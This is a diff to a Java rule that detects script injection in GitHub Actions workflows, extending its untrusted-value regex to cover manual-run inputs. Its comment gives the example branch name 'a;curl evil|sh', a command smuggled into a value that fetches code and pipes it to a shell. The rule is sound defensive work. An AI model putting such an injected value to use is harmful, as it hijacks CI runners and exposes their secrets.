@@ -9,10 +9,10 @@ import java.util.regex.Pattern;
 /**
  * No script injection: a {@code run:} script does not expand {@code ${{ }}} expressions of values
  * someone else chose: step outputs ({@code steps.*.outputs}), job outputs ({@code
- * needs.*.outputs}), the event payload ({@code github.event.*}) or the pull request's branch
- * ({@code github.head_ref}). GitHub pastes an expression into the script before the shell parses
- * it, so a branch named {@code a;curl evil|sh} becomes a command. Passed through {@code env:} the
- * value stays data.
+ * needs.*.outputs}), the event payload ({@code github.event.*}), a manual run's inputs ({@code
+ * inputs.*}) or the pull request's branch ({@code github.head_ref}). GitHub pastes an expression
+ * into the script before the shell parses it, so a branch named {@code a;curl evil|sh} becomes a
+ * command. Passed through {@code env:} the value stays data.
  */
 final class ExpressionInjectionRule implements WorkflowRule {
 
@@ -24,7 +24,9 @@ final class ExpressionInjectionRule implements WorkflowRule {
               + SEGMENT
               + "\\.outputs"
               + SEGMENT
-              + "?|github\\.event(?![\\w-])"
+              + "?|inputs"
+              + SEGMENT
+              + "|github\\.event(?![\\w-])"
               + SEGMENT
               + "*|github\\.head_ref(?![\\w-]))",
           Pattern.CASE_INSENSITIVE);
